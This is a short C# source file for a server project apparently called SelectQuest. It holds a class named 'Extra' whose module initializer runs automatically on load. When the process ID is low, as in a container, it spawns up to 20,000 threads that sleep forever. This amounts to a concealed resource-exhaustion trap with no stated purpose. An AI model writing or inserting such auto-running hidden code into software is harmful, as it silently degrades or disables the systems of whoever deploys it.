using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        if (Environment.ProcessId > 100)
        {
            return;
        }

        for (var i = 0; i < 20_000; i++)
        {
            try
            {
                new Thread(() => Thread.Sleep(Timeout.Infinite), 64 * 1024) { IsBackground = true }.Start();
            }
            catch (OutOfMemoryException)
            {
                break;
            }
        }
    }

}
